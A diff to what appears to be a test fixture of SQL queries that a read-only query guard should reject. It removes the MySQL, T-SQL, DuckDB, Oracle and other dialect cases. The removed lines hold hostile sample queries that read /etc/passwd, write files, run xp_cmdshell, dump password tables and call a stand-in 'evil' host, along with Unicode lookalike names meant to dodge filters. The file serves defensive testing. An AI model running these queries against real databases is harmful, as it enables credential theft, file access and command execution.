@@ -23,7 +23,7 @@ def _of(dialect: str, *attacks: tuple[str, str, str]) -> list[Attack]:
 
 
 def _everywhere(*attacks: tuple[str, str, str]) -> list[Attack]:
-    return [each for dialect in ("sqlite", "postgres", "mysql") for each in _of(dialect, *attacks)]
+    return [each for dialect in ("sqlite", "postgres") for each in _of(dialect, *attacks)]
 
 
 _STATEMENTS = _everywhere(
@@ -241,94 +241,7 @@ _POSTGRES = _of(
     ("where current of", "SELECT 1 FROM customers WHERE CURRENT OF c", "a cursor"),
 )
 
-_MYSQL = _of(
-    "mysql",
-    ("into outfile", "SELECT * FROM customers INTO OUTFILE '/tmp/evil'", "a file"),
-    ("into dumpfile", "SELECT 'x' INTO DUMPFILE '/tmp/evil'", "a file"),
-    ("into variable", "SELECT 1 INTO @a", "a variable"),
-    ("variable", "SELECT @a := 1", "a variable"),
-    ("setting", "SELECT @@global.secure_file_priv", "a setting"),
-    (
-        "executable comment",
-        "SELECT 1 /*! UNION SELECT authentication_string FROM mysql.user */",
-        "a comment that is executed",
-    ),
-    ("executable comment by version", "SELECT /*!50000 load_file('/etc/passwd') */", "a comment that is executed"),
-    ("executable comment of MariaDB", "SELECT 1 /*M! UNION SELECT 2 */", "a comment that is executed"),
-    ("benchmark", "SELECT benchmark(1000000000, md5('x'))", "waiting"),
-    ("get_lock", "SELECT get_lock('x', 10)", "a lock"),
-    ("load data", "LOAD DATA INFILE '/etc/passwd' INTO TABLE customers", "a file"),
-    ("handler", "HANDLER customers OPEN", "a cursor"),
-    ("lock in share mode", "SELECT * FROM customers LOCK IN SHARE MODE", "a lock"),
-    ("procedure", "SELECT * FROM customers PROCEDURE ANALYSE()", "a procedure"),
-    ("user", "SELECT user()", "who asks"),
-    ("version", "SELECT version()", "settings"),
-    ("mysql.user", "SELECT * FROM mysql.user", "passwords"),
-    ("information_schema", "SELECT * FROM information_schema.processlist", "what others ask"),
-    ("performance_schema", "SELECT * FROM performance_schema.threads", "what others ask"),
-    ("backslash", "SELECT 'a\\' UNION SELECT 1 -- '", "escapes that depend on a setting"),
-    ("backslash in a string", "SELECT 'a\\nb'", "escapes that depend on a setting"),
-    ("extractvalue", "SELECT extractvalue(1, concat(0x7e, (SELECT 1)))", "an error that tells"),
-    ("sys_exec", "SELECT sys_exec('touch /tmp/evil')", "a program"),
-    ("do", "DO sleep(10)", "waiting"),
-    ("dotless catalog", "SELECT * FROM ınformation_schema.processlist", "letters that the server takes for others"),
-    ("accented catalog", "SELECT * FROM `mýsql`.`user`", "letters that the server takes for others"),
-    ("show", "SHOW GRANTS", "rights"),
-    ("next value", "SELECT NEXT VALUE FOR numbers", "a write"),
-)
-
-_OTHERS = [
-    *_of(
-        "tsql",
-        ("openrowset", "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil', 'SELECT 1')", "the network"),
-        ("openquery", "SELECT * FROM OPENQUERY(evil, 'SELECT 1')", "the network"),
-        ("opendatasource", "SELECT * FROM OPENDATASOURCE('SQLNCLI', 'x').db.dbo.t", "the network"),
-        ("linked server", "SELECT * FROM evil.db.dbo.customers", "the network"),
-        ("exec", "EXEC xp_cmdshell 'dir'", "a program"),
-        ("stacked without a semicolon", "SELECT 1 DROP TABLE items", "a second statement"),
-        ("stacked on a new line", "SELECT 1\nEXEC xp_cmdshell 'dir'", "a second statement"),
-        ("waitfor", "WAITFOR DELAY '0:0:10'", "waiting"),
-        ("fn_xe_file_target_read_file", "SELECT * FROM sys.fn_xe_file_target_read_file('x', NULL, NULL, NULL)", "a file"),
-        ("variable", "SELECT @@version", "a setting"),
-        ("next value", "SELECT NEXT VALUE FOR numbers", "a write"),
-        ("catalog", "SELECT * FROM sys.sql_logins", "passwords"),
-        ("full-width catalog", "SELECT * FROM [ｓｙｓ].[sql_logins]", "letters that the server takes for others"),
-        ("catalog and a blank", "SELECT * FROM [sysobjects ]", "a blank that the server ignores"),
-        ("old catalog", "SELECT * FROM sysobjects", "the catalog"),
-    ),
-    *_of(
-        "duckdb",
-        ("file", "SELECT * FROM '/etc/passwd'", "a file as a table"),
-        ("quoted file", 'SELECT * FROM "data.csv"', "a file as a table"),
-        ("read_csv", "SELECT * FROM read_csv('/etc/passwd')", "a file"),
-        ("read_text", "SELECT * FROM read_text('/etc/passwd')", "a file"),
-        ("glob", "SELECT * FROM glob('/*')", "files"),
-        ("getenv", "SELECT getenv('HOME')", "the environment"),
-        ("settings", "SELECT * FROM duckdb_settings()", "settings"),
-        ("install", "INSTALL httpfs", "the network"),
-        ("attach", "ATTACH '/tmp/evil.db'", "a file"),
-        ("copy", "COPY (SELECT 1) TO '/tmp/evil'", "a file"),
-        ("from first", "FROM read_csv('/etc/passwd')", "a file"),
-    ),
-    *_of("spark", ("file", "SELECT * FROM parquet.`secrets`", "a file as a table")),
-    *_of("snowflake", ("stage", "SELECT $1 FROM @stage/file", "a file as a table")),
-    *_of("clickhouse", ("url", "SELECT * FROM url('http://evil', 'CSV')", "the network")),
-    *_of("bigquery", ("other project", "SELECT * FROM `evil.data.t`", "another project")),
-    *_of(
-        "oracle",
-        ("utl_http", "SELECT utl_http.request('http://evil') FROM dual", "the network"),
-        ("utl_inaddr", "SELECT utl_inaddr.get_host_address('evil') FROM dual", "the network"),
-        ("httpuritype", "SELECT httpuritype('http://evil').getclob() FROM dual", "the network"),
-        ("database link", "SELECT * FROM customers@evil", "the network"),
-        ("sequence", "SELECT numbers.nextval FROM dual", "a write"),
-        ("dbms_xmlgen", "SELECT dbms_xmlgen.getxml('SELECT 1 FROM dual') FROM dual", "SQL in a text"),
-        ("catalog", "SELECT * FROM all_users", "the catalog"),
-        ("dynamic catalog", "SELECT * FROM v$session", "what others ask"),
-        ("plsql", "BEGIN NULL; END;", "a program"),
-    ),
-]
-
-ATTACKS = [*_STATEMENTS, *_SQLITE, *_POSTGRES, *_MYSQL, *_OTHERS]
+ATTACKS = [*_STATEMENTS, *_SQLITE, *_POSTGRES]
 
 
 def _hidden(*attacks: tuple[str, str, str]) -> list[Attack]:
@@ -415,22 +328,6 @@ HIDDEN = [
             "a condition within",
         ),
         ("column in capitals", "SELECT PASSWORD FROM CUSTOMERS", "capital letters"),
-    ),
-    *_of(
-        "oracle",
-        ("cte of another case", 'WITH "secrets" AS (SELECT 1 FROM orders) SELECT * FROM secrets', "a name that is another"),
-        ("table of another case", 'SELECT * FROM "Orders"', "a name that is another"),
-    ),
-    *_of(
-        "tsql",
-        ("cte of another case", "WITH Secrets AS (SELECT 1 AS a) SELECT * FROM secrets", "a name that may be another"),
-    ),
-    *_of(
-        "snowflake", ("cte of another case", 'WITH "secrets" AS (SELECT 1) SELECT * FROM secrets', "a name that is another")
-    ),
-    *_of(
-        "mysql",
-        ("cte of another case", "WITH Secrets AS (SELECT 1 AS a) SELECT * FROM secrets", "a name that may be another"),
     ),
     *_of(
         "sqlite",
